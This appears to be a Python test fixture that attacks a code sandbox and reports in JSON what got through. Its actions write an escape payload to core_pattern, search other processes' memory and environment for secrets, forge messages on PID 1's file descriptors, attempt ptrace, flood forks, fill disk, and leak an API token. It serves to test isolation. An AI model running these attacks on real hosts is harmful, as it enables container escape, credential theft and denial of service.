"""Attacks on the sandbox, on concurrent invocations and on the host; see README.md.

Every action returns a JSON report; an attack that worked shows up in it, so a test can assert
on exactly what the code inside could and could not do.
"""

import ctypes
import errno
import json
import os
import socket
import sys
import time

if os.environ.get("INTRUDER_AT_IMPORT") == "leak":
    print(f"cannot start: the token is {os.environ.get('API_TOKEN', '')}", file=sys.stderr, flush=True)
    os._exit(3)

_libc = ctypes.CDLL(None, use_errno=True)
_PR_GET_DUMPABLE = 3


def _errno_of(call) -> str:
    try:
        call()
    except OSError as err:
        return errno.errorcode.get(err.errno, str(err.errno))
    return "ok"


def _status() -> dict:
    fields = {}
    with open("/proc/self/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            fields[key] = value.strip()
    return fields


def _probe() -> dict:
    status = _status()
    with open("/proc/self/mountinfo") as f:
        mounts = [line.split()[4] for line in f]
    return {
        "uid": os.getuid(),
        "euid": os.geteuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "cap_eff": status.get("CapEff"),
        "cap_prm": status.get("CapPrm"),
        "cap_bnd": status.get("CapBnd"),
        "seccomp": status.get("Seccomp"),
        "no_new_privs": status.get("NoNewPrivs"),
        "dumpable": _libc.prctl(_PR_GET_DUMPABLE, 0, 0, 0, 0),
        "pid": os.getpid(),
        "mounts": mounts,
        "proc_sys_writable": os.access("/proc/sys/kernel/core_pattern", os.W_OK),
        "tmp_writable": os.access("/tmp", os.W_OK),
        "root_writable": os.access("/", os.W_OK),
    }


def _sysctl() -> dict:
    report = {}
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger"):

        def write(path=path):
            with open(path, "w") as f:
                f.write("|/tmp/evil %p\n")

        report[path] = _errno_of(write)
    return report


def _hold(seconds: str, context) -> dict:
    # The caller's context, with its sensitive user variables, stays in this process's memory.
    kept = json.dumps(context, default=str)
    time.sleep(float(seconds))
    return {"held": len(kept)}


def _scan_memory(pid: int, marker: bytes) -> str:
    """Reads the readable mappings of `pid` through /proc and looks for `marker`."""
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError as err:
        return f"maps: {errno.errorcode.get(err.errno, err.errno)}"
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as err:
        return f"mem: {errno.errorcode.get(err.errno, err.errno)}"
    with mem:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(start)
                if marker in mem.read(end - start):
                    return "FOUND"
            except OSError:
                continue
    return "read, not found"


def _steal(marker: str) -> dict:
    wanted = marker.encode()
    me = os.getpid()
    report = {"memory": {}, "environ": {}, "fds": {}, "forged": {}, "ptrace": None, "process_vm_readv": None}
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    for pid in pids:
        report["memory"][str(pid)] = _scan_memory(pid, wanted)
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                report["environ"][str(pid)] = "FOUND" if wanted in f.read() else "read, not found"
        except OSError as err:
            report["environ"][str(pid)] = errno.errorcode.get(err.errno, str(err.errno))
    for fd in range(0, 12):
        path = f"/proc/1/fd/{fd}"

        def read(path=path):
            fd_ = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                os.read(fd_, 4096)
            finally:
                os.close(fd_)

        def forge(path=path):
            body = json.dumps({"ok": True, "output": "forged by the intruder"}).encode()
            fd_ = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            try:
                os.write(fd_, len(body).to_bytes(4, "big") + body)
            finally:
                os.close(fd_)

        report["fds"][str(fd)] = _errno_of(read)
        report["forged"][str(fd)] = _errno_of(forge)
    target = 1 if pids else me
    PTRACE_ATTACH = 16
    ctypes.set_errno(0)
    result = _libc.ptrace(PTRACE_ATTACH, target, None, None)
    report["ptrace"] = "ok" if result == 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(64)
    local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
    remote = IoVec(0x400000, 64)
    ctypes.set_errno(0)
    result = _libc.process_vm_readv(target, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    report["process_vm_readv"] = "ok" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
    report["found_anywhere"] = any(
        v == "FOUND" for section in ("memory", "environ") for v in report[section].values()
    )
    return report


def _memory(children: str, mib: str) -> dict:
    pids = []
    for _ in range(int(children)):
        pid = os.fork()
        if pid == 0:
            try:
                hoard = bytearray(int(mib) << 20)
                for i in range(0, len(hoard), 4096):
                    hoard[i] = 1
                time.sleep(5)
            finally:
                os._exit(0)
        pids.append(pid)
    statuses = []
    for pid in pids:
        _, status = os.waitpid(pid, 0)
        statuses.append("killed" if os.WIFSIGNALED(status) else f"exit {os.WEXITSTATUS(status)}")
    return {"children": statuses}


def _processes(n: str) -> dict:
    started = 0
    error = None
    for _ in range(int(n)):
        try:
            pid = os.fork()
        except OSError as err:
            error = errno.errorcode.get(err.errno, str(err.errno))
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        started += 1
    return {"started": started, "error": error}


def _fill(directory: str, mib: str) -> dict:
    path = os.path.join(directory, f"fill-{os.getpid()}")
    written = 0
    chunk = b"x" * (1 << 20)
    error = None
    try:
        with open(path, "wb") as f:
            for _ in range(int(mib)):
                f.write(chunk)
                f.flush()
                written += 1
    except OSError as err:
        error = errno.errorcode.get(err.errno, str(err.errno))
    return {"written_mib": written, "error": error}


def _leave(path: str) -> dict:
    return {"left": _errno_of(lambda: open(path, "w").write("left behind\n"))}


def _find(path: str) -> dict:
    return {"exists": os.path.exists(path)}


def _connect(address: str) -> dict:
    host, _, port = address.rpartition(":")
    try:
        with socket.create_connection((host.strip("[]"), int(port)), timeout=3) as s:
            s.settimeout(3)
            try:
                data = s.recv(200)
            except OSError:
                data = b""
            return {"connected": True, "received": data.decode("utf-8", "replace")}
    except OSError as err:
        return {"connected": False, "error": errno.errorcode.get(err.errno, str(err)) if err.errno else str(err)}


def _syscalls() -> dict:
    def call(number, *args):
        ctypes.set_errno(0)
        result = _libc.syscall(number, *args)
        return "ok" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))

    CLONE_NEWUSER = 0x10000000
    return {
        "unshare_user": call(272, CLONE_NEWUSER),
        "mount": call(165, b"none", b"/tmp", b"tmpfs", 0, None),
        "bpf": call(321, 0, None, 0),
        "perf_event_open": call(298, None, 0, -1, -1, 0),
        "userfaultfd": call(323, 0),
        "keyctl": call(250, 0, 0, 0, 0, 0),
        "ptrace_traceme": call(101, 0, 0, 0, 0),
    }


def run(action: str, context: dict | None = None) -> str:
    """Attack in the way that `action` names and report what worked, as JSON.

    Args:
        action: `probe`, `sysctl`, `hold:<seconds>`, `steal:<marker>`, `memory:<children>:<mib>`,
            `processes:<n>`, `fill:<dir>:<mib>`, `leave:<path>`, `find:<path>`,
            `connect:<host>:<port>` or `syscalls`.
    """
    verb, _, argument = action.partition(":")
    actions = {
        "probe": lambda: _probe(),
        "sysctl": lambda: _sysctl(),
        "hold": lambda: _hold(argument, context),
        "steal": lambda: _steal(argument),
        "memory": lambda: _memory(*argument.split(":")),
        "processes": lambda: _processes(argument),
        "fill": lambda: _fill(*argument.rsplit(":", 1)),
        "leave": lambda: _leave(argument),
        "find": lambda: _find(argument),
        "connect": lambda: _connect(argument),
        "syscalls": lambda: _syscalls(),
    }
    if verb not in actions:
        raise ValueError(f"unknown action {action!r}; use one of {', '.join(sorted(actions))}")
    return json.dumps(actions[verb]())
